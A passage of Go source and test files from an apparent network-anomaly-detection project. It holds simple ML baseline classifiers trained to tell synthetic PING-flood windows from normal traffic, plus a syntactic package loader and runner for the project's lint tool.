		for j := range m.weights {
			m.weights[j] -= lr * grad[j] / n
		}
		m.bias -= lr * gradB / n
	}
	m.trained = true
	return nil
}

// Predict implements Model.
func (m *LogisticRegression) Predict(x [][]float64) ([]float64, error) {
	if !m.trained {
		return nil, ErrNotTrained
	}
	out := make([]float64, len(x))
	for i, row := range x {
		if sigmoid(dot(m.weights, row)+m.bias) >= 0.5 {
			out[i] = 1
		}
	}
	return out, nil
}

// LinearSVM is a binary classifier fit by stochastic subgradient descent on
// the L2-regularized hinge loss (Pegasos-style).
type LinearSVM struct {
	// Epochs over the training set (default 500).
	Epochs int
	// Lambda is the regularization strength (default 1e-3).
	Lambda float64

	weights []float64
	bias    float64
	trained bool
}

var _ Model = (*LinearSVM)(nil)

// Name implements Model.
func (m *LinearSVM) Name() string { return "SVM" }

// Train implements Model.
func (m *LinearSVM) Train(x [][]float64, y []float64) error {
	if err := checkTrainingSet(x, y, true); err != nil {
		return err
	}
	epochs := m.Epochs
	if epochs == 0 {
		epochs = 500
	}
	lambda := m.Lambda
	if lambda == 0 {
		lambda = 1e-3
	}
	dim := len(x[0])
	m.weights = make([]float64, dim)
	m.bias = 0
	rng := newRNG(1)
	t := 1
	for e := 0; e < epochs; e++ {
		for range x {
			i := rng.Intn(len(x))
			// Labels in {-1, +1}.
			yi := 2*y[i] - 1
			eta := 1 / (lambda * float64(t))
			t++
			margin := yi * (dot(m.weights, x[i]) + m.bias)
			for j := range m.weights {
				m.weights[j] *= 1 - eta*lambda
			}
			if margin < 1 {
				for j, v := range x[i] {
					m.weights[j] += eta * yi * v
				}
				m.bias += eta * yi
			}
		}
	}
	m.trained = true
	return nil
}

// Predict implements Model.
func (m *LinearSVM) Predict(x [][]float64) ([]float64, error) {
	if !m.trained {
		return nil, ErrNotTrained
	}
	out := make([]float64, len(x))
	for i, row := range x {
		if dot(m.weights, row)+m.bias >= 0 {
			out[i] = 1
		}
	}
	return out, nil
}

// OneClassSVM is a one-class anomaly detector: a support-vector-data-
// description style hypersphere fit around the normal class, with the
// radius chosen at a quantile of the training distances (controlled by Nu).
type OneClassSVM struct {
	// Nu is the expected outlier fraction in training data (default 0.01).
	Nu float64
	// Epochs of center refinement (default 200).
	Epochs int

	center  []float64
	radius  float64
	trained bool
}

var _ Model = (*OneClassSVM)(nil)

// Name implements Model.
func (m *OneClassSVM) Name() string { return "OC-SVM" }

// Train implements Model. Labels are ignored beyond filtering to the normal
// class (one-class training).
func (m *OneClassSVM) Train(x [][]float64, y []float64) error {
	if err := checkTrainingSet(x, y, false); err != nil {
		return err
	}
	normal := x
	if len(y) == len(x) {
		normal = normal[:0:0]
		for i, row := range x {
			if y[i] < 0.5 {
				normal = append(normal, row)
			}
		}
	}
	if len(normal) == 0 {
		return ErrBadTrainingSet
	}
	nu := m.Nu
	if nu == 0 {
		nu = 0.01
	}
	epochs := m.Epochs
	if epochs == 0 {
		epochs = 200
	}
	dim := len(normal[0])
	m.center = make([]float64, dim)
	// Iteratively refined robust center (epochs of soft k-means with one
	// centroid, which also supplies the deliberate training cost of a
	// kernel-method baseline).
	for j := range m.center {
		for _, row := range normal {
			m.center[j] += row[j]
		}
		m.center[j] /= float64(len(normal))
	}
	for e := 0; e < epochs; e++ {
		next := make([]float64, dim)
		totalW := 0.0
		for _, row := range normal {
			d := distance(row, m.center)
			w := 1 / (1 + d)
			for j, v := range row {
				next[j] += w * v
			}
			totalW += w
		}
		for j := range next {
			next[j] /= totalW
		}
		m.center = next
	}
	dists := make([]float64, len(normal))
	for i, row := range normal {
		dists[i] = distance(row, m.center)
	}
	// A 1.5x slack on the radius absorbs unseen-normal variance (the
	// training set is a sample, not the population).
	m.radius = 1.5 * quantile(dists, 1-nu)
	m.trained = true
	return nil
}

// Predict implements Model: outside the hypersphere = anomalous.
func (m *OneClassSVM) Predict(x [][]float64) ([]float64, error) {
	if !m.trained {
		return nil, ErrNotTrained
	}
	out := make([]float64, len(x))
	for i, row := range x {
		if distance(row, m.center) > m.radius {
			out[i] = 1
		}
	}
	return out, nil
}

func distance(a, b []float64) float64 {
	s := 0.0
	for i := range a {
		d := a[i] - b[i]
		s += d * d
	}
	return math.Sqrt(s)
}

func quantile(xs []float64, q float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	sorted := append([]float64(nil), xs...)
	insertionSort(sorted)
	idx := int(q * float64(len(sorted)-1))
	if idx < 0 {
		idx = 0
	}
	if idx >= len(sorted) {
		idx = len(sorted) - 1
	}
	return sorted[idx]
}

func insertionSort(xs []float64) {
	for i := 1; i < len(xs); i++ {
		for j := i; j > 0 && xs[j] < xs[j-1]; j-- {
			xs[j], xs[j-1] = xs[j-1], xs[j]
		}
	}
}
