package mlbase

import "math"

// mlp is a fully connected network with one or two hidden layers and
// sigmoid activations, trained by backprop SGD. Both the DNN classifier and
// the AutoEncoder build on it.
type mlp struct {
	sizes   []int // layer sizes, input first
	weights [][][]float64
	biases  [][]float64
}

func newMLP(sizes []int, seed int64) *mlp {
	rng := newRNG(seed)
	m := &mlp{sizes: sizes}
	for l := 1; l < len(sizes); l++ {
		w := make([][]float64, sizes[l])
		for j := range w {
			w[j] = make([]float64, sizes[l-1])
			for k := range w[j] {
				w[j][k] = rng.NormFloat64() * 0.3
			}
		}
		m.weights = append(m.weights, w)
		m.biases = append(m.biases, make([]float64, sizes[l]))
	}
	return m
}

// forward returns the activations of every layer (input first).
func (m *mlp) forward(input []float64) [][]float64 {
	acts := [][]float64{input}
	cur := input
	for l := range m.weights {
		next := make([]float64, m.sizes[l+1])
		for j := range next {
			next[j] = sigmoid(dot(m.weights[l][j], cur) + m.biases[l][j])
		}
		acts = append(acts, next)
		cur = next
	}
	return acts
}

// backprop performs one SGD step toward target with the given rate, using
// squared-error loss. It returns the example's loss before the step.
func (m *mlp) backprop(input, target []float64, lr float64) float64 {
	acts := m.forward(input)
	out := acts[len(acts)-1]
	loss := 0.0
	delta := make([]float64, len(out))
	for j := range out {
		diff := out[j] - target[j]
		loss += diff * diff
		delta[j] = diff * out[j] * (1 - out[j])
	}
	for l := len(m.weights) - 1; l >= 0; l-- {
		prev := acts[l]
		var nextDelta []float64
		if l > 0 {
			nextDelta = make([]float64, len(prev))
			for k := range prev {
				s := 0.0
				for j := range delta {
					s += delta[j] * m.weights[l][j][k]
				}
				nextDelta[k] = s * prev[k] * (1 - prev[k])
			}
		}
		for j := range delta {
			for k := range prev {
				m.weights[l][j][k] -= lr * delta[j] * prev[k]
			}
			m.biases[l][j] -= lr * delta[j]
		}
		delta = nextDelta
	}
	return loss
}

// DNN is a two-hidden-layer neural binary classifier.
type DNN struct {
	// Hidden layer sizes (default 16, 8).
	Hidden1, Hidden2 int
	// Epochs of SGD (default 200).
	Epochs int
	// LearningRate (default 0.5).
	LearningRate float64

	net     *mlp
	trained bool
}

var _ Model = (*DNN)(nil)

// Name implements Model.
func (m *DNN) Name() string { return "DNN" }

// Train implements Model.
func (m *DNN) Train(x [][]float64, y []float64) error {
	if err := checkTrainingSet(x, y, true); err != nil {
		return err
	}
	h1, h2 := m.Hidden1, m.Hidden2
	if h1 == 0 {
		h1 = 16
	}
	if h2 == 0 {
		h2 = 8
	}
	epochs := m.Epochs
	if epochs == 0 {
		epochs = 200
	}
	lr := m.LearningRate
	if lr == 0 {
		lr = 0.5
	}
	m.net = newMLP([]int{len(x[0]), h1, h2, 1}, 3)
	for e := 0; e < epochs; e++ {
		for i, row := range x {
			m.net.backprop(row, []float64{y[i]}, lr)
		}
	}
	m.trained = true
	return nil
}

// Predict implements Model.
func (m *DNN) Predict(x [][]float64) ([]float64, error) {
	if !m.trained {
		return nil, ErrNotTrained
	}
	out := make([]float64, len(x))
	for i, row := range x {
		acts := m.net.forward(row)
		if acts[len(acts)-1][0] >= 0.5 {
			out[i] = 1
		}
	}
	return out, nil
}

// AutoEncoder is a one-class anomaly detector: an MLP trained to
// reconstruct normal windows; reconstruction error above a trained quantile
// marks a window anomalous — the architecture of the paper's ICBC'21
// baseline [22].
type AutoEncoder struct {
	// Hidden bottleneck size (default 4).
	Hidden int
	// Epochs of SGD (default 200).
	Epochs int
	// LearningRate (default 0.5).
	LearningRate float64
	// Quantile of training reconstruction error used as the threshold
	// (default 0.99).
	Quantile float64

	net       *mlp
	threshold float64
	trained   bool
}

var _ Model = (*AutoEncoder)(nil)

// Name implements Model.
func (m *AutoEncoder) Name() string { return "AE" }

// Train implements Model. Labels filter training to the normal class.
func (m *AutoEncoder) Train(x [][]float64, y []float64) error {
	if err := checkTrainingSet(x, y, false); err != nil {
		return err
	}
	normal := x
	if len(y) == len(x) {
		normal = normal[:0:0]
		for i, row := range x {
			if y[i] < 0.5 {
				normal = append(normal, row)
			}
		}
	}
	if len(normal) == 0 {
		return ErrBadTrainingSet
	}
	hidden := m.Hidden
	if hidden == 0 {
		hidden = 4
	}
	epochs := m.Epochs
	if epochs == 0 {
		epochs = 200
	}
	lr := m.LearningRate
	if lr == 0 {
		lr = 0.5
	}
	q := m.Quantile
	if q == 0 {
		q = 0.99
	}
	dim := len(normal[0])
	m.net = newMLP([]int{dim, hidden, dim}, 4)
	for e := 0; e < epochs; e++ {
		for _, row := range normal {
			m.net.backprop(row, row, lr)
		}
	}
	errs := make([]float64, len(normal))
	for i, row := range normal {
		errs[i] = m.reconstructionError(row)
	}
	// A 2x slack on the reconstruction-error threshold absorbs
	// unseen-normal variance; flood windows reconstruct orders of
	// magnitude worse, so separation is preserved.
	m.threshold = 2 * quantile(errs, q)
	if m.threshold == 0 {
		m.threshold = math.SmallestNonzeroFloat64
	}
	m.trained = true
	return nil
}

func (m *AutoEncoder) reconstructionError(row []float64) float64 {
	acts := m.net.forward(row)
	out := acts[len(acts)-1]
	e := 0.0
	for j := range out {
		d := out[j] - row[j]
		e += d * d
	}
	return e
}

// Predict implements Model.
func (m *AutoEncoder) Predict(x [][]float64) ([]float64, error) {
	if !m.trained {
		return nil, ErrNotTrained
	}
	out := make([]float64, len(x))
	for i, row := range x {
		if m.reconstructionError(row) > m.threshold {
			out[i] = 1
		}
	}
	return out, nil
}

// AllModels returns one instance of each Fig. 11 baseline in paper order.
func AllModels() []Model {
	return []Model{
		&LogisticRegression{},
		&GradientBoosting{},
		&RandomForest{},
		&LinearSVM{},
		&DNN{},
		&OneClassSVM{},
		&AutoEncoder{},
	}
}
