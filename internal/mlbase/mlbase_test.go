package mlbase

import (
	"testing"
	"time"

	"banscore/internal/detect"
	"banscore/internal/traffic"
	"banscore/internal/wire"
)

var t0 = time.Unix(1700000000, 0)

// buildDataset synthesizes a labeled train/test split: normal windows vs
// PING-flood windows — the same separability task as the paper's engine.
func buildDataset(tb testing.TB) (xTrain [][]float64, yTrain []float64, xTest [][]float64, yTest []float64) {
	tb.Helper()
	normal := detect.WindowsFromEvents(
		traffic.NewGenerator(42).Events(t0, 6*time.Hour), nil, detect.DefaultWindow)
	floodStart := t0.Add(100 * time.Hour)
	floodEvents := traffic.Overlay(
		traffic.NewGenerator(43).Events(floodStart, 3*time.Hour),
		traffic.FloodEvents(wire.CmdPing, floodStart, 3*time.Hour, 15000),
	)
	anomalous := detect.WindowsFromEvents(floodEvents, nil, detect.DefaultWindow)

	commands := []string{
		wire.CmdTx, wire.CmdInv, wire.CmdGetData, wire.CmdHeaders,
		wire.CmdPing, wire.CmdPong, wire.CmdAddr, wire.CmdVersion, wire.CmdVerAck,
	}
	var windows []detect.WindowStats
	var labels []float64
	for _, w := range normal {
		windows = append(windows, w)
		labels = append(labels, 0)
	}
	for _, w := range anomalous {
		windows = append(windows, w)
		labels = append(labels, 1)
	}
	x := Dataset(windows, commands)

	// Alternating split keeps both classes in both halves.
	for i := range x {
		if i%2 == 0 {
			xTrain = append(xTrain, x[i])
			yTrain = append(yTrain, labels[i])
		} else {
			xTest = append(xTest, x[i])
			yTest = append(yTest, labels[i])
		}
	}
	return xTrain, yTrain, xTest, yTest
}

func TestAllModelsSeparateFloodFromNormal(t *testing.T) {
	xTrain, yTrain, xTest, yTest := buildDataset(t)
	for _, m := range AllModels() {
		m := m
		t.Run(m.Name(), func(t *testing.T) {
			dur, err := TimedTrain(m, xTrain, yTrain)
			if err != nil {
				t.Fatalf("train: %v", err)
			}
			if dur <= 0 {
				t.Error("training latency not measured")
			}
			pred, testDur, err := TimedPredict(m, xTest)
			if err != nil {
				t.Fatalf("predict: %v", err)
			}
			if testDur <= 0 {
				t.Error("testing latency not measured")
			}
			acc := Accuracy(pred, yTest)
			// The flood dominates every feature: all baselines must
			// separate it nearly perfectly.
			if acc < 0.9 {
				t.Errorf("accuracy = %v, want >= 0.9", acc)
			}
		})
	}
}

func TestAllModelsCount(t *testing.T) {
	models := AllModels()
	if len(models) != 7 {
		t.Fatalf("baseline count = %d, want the 7 of Fig. 11", len(models))
	}
	names := map[string]bool{}
	for _, m := range models {
		names[m.Name()] = true
	}
	for _, want := range []string{"LR", "GB", "RF", "SVM", "DNN", "OC-SVM", "AE"} {
		if !names[want] {
			t.Errorf("missing baseline %s", want)
		}
	}
}

func TestPredictBeforeTrainFails(t *testing.T) {
	for _, m := range AllModels() {
		if _, err := m.Predict([][]float64{{1, 2}}); err != ErrNotTrained {
			t.Errorf("%s: Predict before Train = %v", m.Name(), err)
		}
	}
}

func TestTrainRejectsBadInput(t *testing.T) {
	for _, m := range AllModels() {
		if err := m.Train(nil, nil); err == nil {
			t.Errorf("%s: Train(nil) succeeded", m.Name())
		}
		if err := m.Train([][]float64{{1, 2}, {1}}, []float64{0, 1}); err == nil {
			t.Errorf("%s: Train(ragged) succeeded", m.Name())
		}
	}
	// Supervised models require labels.
	lr := &LogisticRegression{}
	if err := lr.Train([][]float64{{1, 2}}, nil); err == nil {
		t.Error("LR accepted missing labels")
	}
}

func TestFeaturesVectorShape(t *testing.T) {
	w := detect.WindowStats{
		Start:      t0,
		Duration:   10 * time.Minute,
		Counts:     map[string]float64{"tx": 90, "ping": 10},
		Messages:   100,
		Reconnects: 5,
	}
	v := Features(w, []string{"tx", "ping", "addr"})
	if len(v) != 5 {
		t.Fatalf("feature dim = %d, want 5", len(v))
	}
	if v[0] != 0.5 { // 5 reconnects / 10 min
		t.Errorf("c feature = %v", v[0])
	}
	if v[2] != 0.9 || v[3] != 0.1 || v[4] != 0 {
		t.Errorf("distribution features = %v", v[2:])
	}
	// Empty window: zero distribution.
	empty := Features(detect.WindowStats{Duration: time.Minute}, []string{"tx"})
	if empty[2] != 0 {
		t.Errorf("empty window distribution = %v", empty)
	}
}

func TestAccuracyFunction(t *testing.T) {
	if Accuracy([]float64{1, 0, 1}, []float64{1, 0, 0}) != 2.0/3 {
		t.Error("accuracy computation")
	}
	if Accuracy(nil, nil) != 0 {
		t.Error("empty accuracy")
	}
}

func TestOneClassModelsTrainWithoutAnomalies(t *testing.T) {
	xTrain, _, _, _ := buildDataset(t)
	// All-normal labels: one-class models train on everything.
	y := make([]float64, len(xTrain))
	for _, m := range []Model{&OneClassSVM{}, &AutoEncoder{}} {
		if err := m.Train(xTrain, y); err != nil {
			t.Errorf("%s: %v", m.Name(), err)
		}
	}
}

func TestStatisticalEngineFasterThanEveryBaseline(t *testing.T) {
	// The Fig. 11 headline: the statistical engine is orders of magnitude
	// faster to train than any ML baseline.
	normal := detect.WindowsFromEvents(
		traffic.NewGenerator(42).Events(t0, 6*time.Hour), nil, detect.DefaultWindow)
	_, statDur, err := detect.Train(normal, detect.Config{})
	if err != nil {
		t.Fatal(err)
	}

	xTrain, yTrain, _, _ := buildDataset(t)
	slower := 0
	var maxDur time.Duration
	for _, m := range AllModels() {
		mlDur, err := TimedTrain(m, xTrain, yTrain)
		if err != nil {
			t.Fatalf("%s: %v", m.Name(), err)
		}
		if mlDur > statDur {
			slower++
		}
		if mlDur > maxDur {
			maxDur = mlDur
		}
	}
	// On this unit-test-sized dataset individual timings are noisy; the
	// full Fig. 11 experiment measures the real gap. Here we assert the
	// robust version: most baselines are slower, and the heavyweight
	// ones by a wide margin.
	if slower < 5 {
		t.Errorf("only %d/7 baselines slower than the statistical engine (%v)", slower, statDur)
	}
	if maxDur < 10*statDur {
		t.Errorf("slowest baseline (%v) not clearly slower than statistical engine (%v)", maxDur, statDur)
	}
}
