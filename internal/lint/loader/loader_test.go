package loader

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestLoadDirSelf(t *testing.T) {
	pkg, err := LoadDir(".", Config{})
	if err != nil {
		t.Fatalf("LoadDir: %v", err)
	}
	if pkg == nil {
		t.Fatal("LoadDir returned nil package for a directory with Go files")
	}
	if pkg.Name != "loader" {
		t.Errorf("Name = %q, want %q", pkg.Name, "loader")
	}
	if pkg.Path != "banscore/internal/lint/loader" {
		t.Errorf("Path = %q, want module-qualified import path", pkg.Path)
	}
	for _, f := range pkg.Files {
		name := filepath.Base(pkg.Fset.Position(f.Pos()).Filename)
		if strings.HasSuffix(name, "_test.go") {
			t.Errorf("Config{IncludeTests: false} loaded test file %s", name)
		}
	}
}

func TestLoadDirIncludeTests(t *testing.T) {
	pkg, err := LoadDir(".", Config{IncludeTests: true})
	if err != nil {
		t.Fatalf("LoadDir: %v", err)
	}
	found := false
	for _, f := range pkg.Files {
		if strings.HasSuffix(pkg.Fset.Position(f.Pos()).Filename, "_test.go") {
			found = true
		}
	}
	if !found {
		t.Error("IncludeTests did not load this _test.go file")
	}
}

func TestLoadDirEmpty(t *testing.T) {
	dir := t.TempDir()
	pkg, err := LoadDir(dir, Config{})
	if err != nil {
		t.Fatalf("LoadDir: %v", err)
	}
	if pkg != nil {
		t.Errorf("empty directory should load as nil, got %+v", pkg)
	}
}

func TestLoadDirWithoutGoMod(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "simnet")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	src := "package simnet\n"
	if err := os.WriteFile(filepath.Join(dir, "a.go"), []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	pkg, err := LoadDir(dir, Config{})
	if err != nil {
		t.Fatalf("LoadDir: %v", err)
	}
	if pkg.Path != "simnet" {
		t.Errorf("Path = %q, want base-name fallback %q", pkg.Path, "simnet")
	}
}

func TestLoadTreeSkipsTestdata(t *testing.T) {
	// Two levels up is internal/lint: the analyzers' fixture packages under
	// testdata/ must not surface as packages of the tree.
	pkgs, err := LoadTree(filepath.Join("..", ".."), Config{})
	if err != nil {
		t.Fatalf("LoadTree: %v", err)
	}
	if len(pkgs) == 0 {
		t.Fatal("LoadTree found no packages under internal/lint")
	}
	seenSelf := false
	for _, pkg := range pkgs {
		if strings.Contains(pkg.Path, "/testdata/") || strings.HasSuffix(pkg.Path, "/testdata") {
			t.Errorf("LoadTree surfaced fixture package %s", pkg.Path)
		}
		if pkg.Path == "banscore/internal/lint/loader" {
			seenSelf = true
		}
	}
	if !seenSelf {
		t.Error("LoadTree missed banscore/internal/lint/loader")
	}
}

// TestLoadTreeMultiPackage loads a synthetic module with nested packages
// and checks each surfaces once with its module-qualified import path —
// the property the repo-level analyzers' cross-package resolution relies
// on.
func TestLoadTreeMultiPackage(t *testing.T) {
	root := t.TempDir()
	files := map[string]string{
		"go.mod":           "module example.com/tm\n\ngo 1.22\n",
		"top.go":           "package tm\n",
		"a/a.go":           "package a\n",
		"a/deep/deep.go":   "package deep\n",
		"b/b.go":           "package b\n",
		"b/b_test.go":      "package b\n\nimport \"testing\"\n\nfunc TestB(t *testing.T) {}\n",
		"b/testdata/f.go":  "package fixture\n",
		"vendor/v/v.go":    "package v\n",
		"_attic/old.go":    "package old\n",
		".hidden/h.go":     "package h\n",
	}
	for rel, src := range files {
		path := filepath.Join(root, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}

	pkgs, err := LoadTree(root, Config{})
	if err != nil {
		t.Fatalf("LoadTree: %v", err)
	}
	got := map[string]int{}
	for _, pkg := range pkgs {
		got[pkg.Path]++
		for _, f := range pkg.Files {
			name := pkg.Fset.Position(f.Pos()).Filename
			if strings.HasSuffix(name, "_test.go") {
				t.Errorf("package %s includes test file %s without IncludeTests", pkg.Path, name)
			}
		}
	}
	want := []string{
		"example.com/tm",
		"example.com/tm/a",
		"example.com/tm/a/deep",
		"example.com/tm/b",
	}
	for _, path := range want {
		if got[path] != 1 {
			t.Errorf("package %s loaded %d times, want 1 (all: %v)", path, got[path], got)
		}
	}
	if len(got) != len(want) {
		t.Errorf("loaded %v; testdata/vendor/underscore/hidden dirs must not surface", got)
	}

	withTests, err := LoadTree(root, Config{IncludeTests: true})
	if err != nil {
		t.Fatalf("LoadTree with tests: %v", err)
	}
	sawTest := false
	for _, pkg := range withTests {
		for _, f := range pkg.Files {
			if strings.HasSuffix(pkg.Fset.Position(f.Pos()).Filename, "_test.go") {
				sawTest = true
			}
		}
	}
	if !sawTest {
		t.Error("IncludeTests did not surface b/b_test.go")
	}
}
