package loader

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestLoadDirSelf(t *testing.T) {
	pkg, err := LoadDir(".", Config{})
	if err != nil {
		t.Fatalf("LoadDir: %v", err)
	}
	if pkg == nil {
		t.Fatal("LoadDir returned nil package for a directory with Go files")
	}
	if pkg.Name != "loader" {
		t.Errorf("Name = %q, want %q", pkg.Name, "loader")
	}
	if pkg.Path != "banscore/internal/lint/loader" {
		t.Errorf("Path = %q, want module-qualified import path", pkg.Path)
	}
	for _, f := range pkg.Files {
		name := filepath.Base(pkg.Fset.Position(f.Pos()).Filename)
		if strings.HasSuffix(name, "_test.go") {
			t.Errorf("Config{IncludeTests: false} loaded test file %s", name)
		}
	}
}

func TestLoadDirIncludeTests(t *testing.T) {
	pkg, err := LoadDir(".", Config{IncludeTests: true})
	if err != nil {
		t.Fatalf("LoadDir: %v", err)
	}
	found := false
	for _, f := range pkg.Files {
		if strings.HasSuffix(pkg.Fset.Position(f.Pos()).Filename, "_test.go") {
			found = true
		}
	}
	if !found {
		t.Error("IncludeTests did not load this _test.go file")
	}
}

func TestLoadDirEmpty(t *testing.T) {
	dir := t.TempDir()
	pkg, err := LoadDir(dir, Config{})
	if err != nil {
		t.Fatalf("LoadDir: %v", err)
	}
	if pkg != nil {
		t.Errorf("empty directory should load as nil, got %+v", pkg)
	}
}

func TestLoadDirWithoutGoMod(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "simnet")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	src := "package simnet\n"
	if err := os.WriteFile(filepath.Join(dir, "a.go"), []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	pkg, err := LoadDir(dir, Config{})
	if err != nil {
		t.Fatalf("LoadDir: %v", err)
	}
	if pkg.Path != "simnet" {
		t.Errorf("Path = %q, want base-name fallback %q", pkg.Path, "simnet")
	}
}

func TestLoadTreeSkipsTestdata(t *testing.T) {
	// Two levels up is internal/lint: the analyzers' fixture packages under
	// testdata/ must not surface as packages of the tree.
	pkgs, err := LoadTree(filepath.Join("..", ".."), Config{})
	if err != nil {
		t.Fatalf("LoadTree: %v", err)
	}
	if len(pkgs) == 0 {
		t.Fatal("LoadTree found no packages under internal/lint")
	}
	seenSelf := false
	for _, pkg := range pkgs {
		if strings.Contains(pkg.Path, "/testdata/") || strings.HasSuffix(pkg.Path, "/testdata") {
			t.Errorf("LoadTree surfaced fixture package %s", pkg.Path)
		}
		if pkg.Path == "banscore/internal/lint/loader" {
			seenSelf = true
		}
	}
	if !seenSelf {
		t.Error("LoadTree missed banscore/internal/lint/loader")
	}
}
