// Package loader parses Go packages from directories for the banlint
// driver. It is deliberately minimal — no build-tag evaluation beyond the
// implicit _test split, no cgo, no type checking — because the analyzer
// framework it feeds (internal/lint/analysis) is purely syntactic. The
// payoff is that loading needs nothing but the standard library, so the
// lint suite runs in the same dependency-free build as the rest of the
// repository.
package loader

import (
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// A Package is one parsed directory of Go files.
type Package struct {
	// Name is the declared package name.
	Name string

	// Path is the package's import path: module path + relative
	// directory when a go.mod governs the tree, the directory's base
	// name otherwise (the analysistest case).
	Path string

	// Dir is the absolute directory.
	Dir string

	// Fset positions for Files.
	Fset *token.FileSet

	// Files are the parsed syntax trees, with comments, sorted by file
	// name.
	Files []*ast.File
}

// Config controls loading.
type Config struct {
	// IncludeTests also loads _test.go files (as part of the same
	// package object; banlint is syntactic, so the internal/external
	// test-package split does not matter).
	IncludeTests bool
}

// LoadDir parses the single package in dir. Directories with no Go files
// return (nil, nil). Mixed package clauses load the dominant (most
// frequent) name and skip the rest — the pragmatic treatment of external
// test packages and fixture files.
func LoadDir(dir string, cfg Config) (*Package, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	abs, err := filepath.Abs(dir)
	if err != nil {
		return nil, err
	}
	var names []string
	for _, e := range entries {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, ".go") {
			continue
		}
		if strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_") {
			continue
		}
		if !cfg.IncludeTests && strings.HasSuffix(name, "_test.go") {
			continue
		}
		names = append(names, name)
	}
	if len(names) == 0 {
		return nil, nil
	}
	sort.Strings(names)

	fset := token.NewFileSet()
	var files []*ast.File
	counts := make(map[string]int)
	for _, name := range names {
		f, err := parser.ParseFile(fset, filepath.Join(abs, name), nil, parser.ParseComments)
		if err != nil {
			return nil, fmt.Errorf("parse %s: %w", filepath.Join(dir, name), err)
		}
		files = append(files, f)
		counts[f.Name.Name]++
	}
	pkgName, best := "", 0
	for name, n := range counts {
		// Prefer the non-_test name on ties so internal packages win.
		if n > best || (n == best && !strings.HasSuffix(name, "_test")) {
			pkgName, best = name, n
		}
	}
	kept := files[:0]
	for _, f := range files {
		if f.Name.Name == pkgName {
			kept = append(kept, f)
		}
	}
	return &Package{
		Name:  pkgName,
		Path:  importPath(abs),
		Dir:   abs,
		Fset:  fset,
		Files: kept,
	}, nil
}

// LoadTree parses every package under root, skipping testdata, vendor,
// hidden, and underscore-prefixed directories. Packages come back sorted
// by import path.
func LoadTree(root string, cfg Config) ([]*Package, error) {
	var pkgs []*Package
	err := filepath.WalkDir(root, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			return nil
		}
		base := d.Name()
		if path != root && (base == "testdata" || base == "vendor" ||
			strings.HasPrefix(base, ".") || strings.HasPrefix(base, "_")) {
			return filepath.SkipDir
		}
		pkg, err := LoadDir(path, cfg)
		if err != nil {
			return err
		}
		if pkg != nil {
			pkgs = append(pkgs, pkg)
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	sort.Slice(pkgs, func(i, j int) bool { return pkgs[i].Path < pkgs[j].Path })
	return pkgs, nil
}

// importPath derives the package's import path by locating the nearest
// enclosing go.mod. Without one, the directory's base name stands in —
// enough for the segment-matching rules scope-limited analyzers use.
func importPath(absDir string) string {
	dir := absDir
	for {
		data, err := os.ReadFile(filepath.Join(dir, "go.mod"))
		if err == nil {
			if mod := modulePath(data); mod != "" {
				rel, err := filepath.Rel(dir, absDir)
				if err != nil || rel == "." {
					return mod
				}
				return mod + "/" + filepath.ToSlash(rel)
			}
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			return filepath.Base(absDir)
		}
		dir = parent
	}
}

// modulePath extracts the module path from go.mod contents.
func modulePath(data []byte) string {
	for _, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		if rest, ok := strings.CutPrefix(line, "module"); ok {
			rest = strings.TrimSpace(rest)
			rest = strings.Trim(rest, `"`)
			if rest != "" {
				return rest
			}
		}
	}
	return ""
}
