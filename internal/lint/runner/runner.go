// Package runner executes a set of analyzers over loaded packages and
// applies the //lint:allow suppression pass. It is the shared core of the
// cmd/banlint standalone driver, the go vet -vettool mode, and the
// analysistest harness, so all three agree exactly on what a finding is.
//
// Two granularities exist. Per-package analyzers (Analyzer.Run) see one
// package at a time. Repo-level analyzers (Analyzer.RunRepo — the banvet
// dataflow tier) see every loaded package at once, so cross-package
// properties (interprocedural evidence taint, the whole-repo lock-order
// graph) are provable. RunTree runs both kinds; RunPackage is the
// single-package view the vet driver and single-directory fixtures use,
// in which repo-level analyzers see a one-package repo.
package runner

import (
	"fmt"

	"banscore/internal/lint/analysis"
	"banscore/internal/lint/loader"
)

// RunTree applies every analyzer to every package and returns the
// surviving diagnostics per package, parallel to pkgs: per-package
// analyzers run on each package, repo-level analyzers run once over the
// whole set, then each package's //lint:allow suppression pass filters
// its findings (repo-level ones included), audits its waivers for
// staleness, and appends one diagnostic per malformed or stale
// directive. Each package's slice is sorted by position.
func RunTree(pkgs []*loader.Package, analyzers []*analysis.Analyzer) ([][]analysis.Diagnostic, error) {
	diags := make([][]analysis.Diagnostic, len(pkgs))
	units := make([]*analysis.RepoUnit, len(pkgs))
	unitIndex := make(map[*analysis.RepoUnit]int, len(pkgs))
	for i, pkg := range pkgs {
		units[i] = &analysis.RepoUnit{
			Fset:    pkg.Fset,
			Files:   pkg.Files,
			PkgName: pkg.Name,
			PkgPath: pkg.Path,
		}
		unitIndex[units[i]] = i
	}

	ran := make(map[string]bool, len(analyzers))
	for _, a := range analyzers {
		ran[a.Name] = true
		if a.Run != nil {
			for i, pkg := range pkgs {
				i := i
				pass := &analysis.Pass{
					Analyzer: a,
					Fset:     pkg.Fset,
					Files:    pkg.Files,
					PkgName:  pkg.Name,
					PkgPath:  pkg.Path,
					Report:   func(d analysis.Diagnostic) { diags[i] = append(diags[i], d) },
				}
				if err := a.Run(pass); err != nil {
